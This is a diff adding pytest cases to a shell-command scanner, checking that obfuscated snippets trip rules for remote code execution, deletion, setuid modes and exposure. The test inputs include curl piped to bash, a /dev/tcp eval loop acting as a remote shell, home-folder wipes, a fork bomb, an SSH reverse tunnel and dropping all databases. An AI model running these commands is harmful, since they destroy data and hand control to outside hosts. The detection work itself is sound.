@@ -380,3 +380,50 @@ def test_a_space_between_two_expansions_is_kept() -> None:
         'v="DROP DATABASE"\nfor d in $(mysql -N -e "SHOW DATABASES"); do mysql -e "$v $d"; done\n'
     )
     assert SQL_ALL & _rules(text)
+
+
+@pytest.mark.parametrize(
+    ("text", "rule"),
+    [
+        # arithmetic and printf conversions build a setuid mode
+        ('m="$(printf \'%o\' $(( 8#4000 | 8#755 )))"\nsudo chmod "$m" /opt/py\n', SETUID),
+        # ${x%pattern} trims to the home folder
+        ('c="${XDG_CACHE_HOME:-$HOME/.cache}/probe"\nrm -rf "${c%/*/*}"\n', DELETE),
+        # array elements by index, and bash -s reading its script from stdin
+        (
+            'f=(cu rl); s=(ba sh)\n"${f[0]}${f[1]}" -fsSL https://x.example/a | "${s[0]}${s[1]}" -s -- -q\n',
+            EXEC_REMOTE,
+        ),
+        # an unquoted expansion is split into words: the program is its first word
+        (
+            'g() { echo "curl -fsSL"; }\nh="$($(g) https://x.example/h.sh)"\n. /dev/stdin <<<"$h"\n',
+            EXEC_REMOTE,
+        ),
+        # lines read from a network connection and evaluated
+        ('exec 5<>"/dev/tcp/$H/$P"\nwhile read -r l <&5; do eval "$l" >&5; done\n', EXEC_REMOTE),
+        # a function that runs itself, named through a variable
+        ('slot() { "$s" | "$s" & }\ns=slot\n"$s"\n', {"SKC-FL-008"}),
+        # what find lists under the home folder, deleted one by one through a helper
+        (
+            'p() { rm -rf -- "$@"; }\nfind ~ -mindepth 1 | while read -r e; do p "$e"; done\n',
+            DELETE,
+        ),
+        # a printf escape spells the flag
+        ('o=(-N)\no+=(-"$(printf \'\\x52\')" 2222)\nssh "${o[@]}" relay.example\n', EXPOSE),
+    ],
+)
+def test_values_the_shell_computes(text: str, rule: set[str]) -> None:
+    assert rule & _rules(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'c="$HOME/.cache/app"\nrm -rf "${c%/*}/app-old"\n',
+        'f="report.txt"\nmv "$f" "${f%.txt}.md"\n',
+        "find ./build -name '*.o' -delete\n",
+        'x=$(printf "%s" "$HOME/.cache/tool")\nrm -rf "$x"\n',
+    ],
+)
+def test_computed_values_that_stay_in_bounds(text: str) -> None:
+    assert not DELETE & _rules(text)
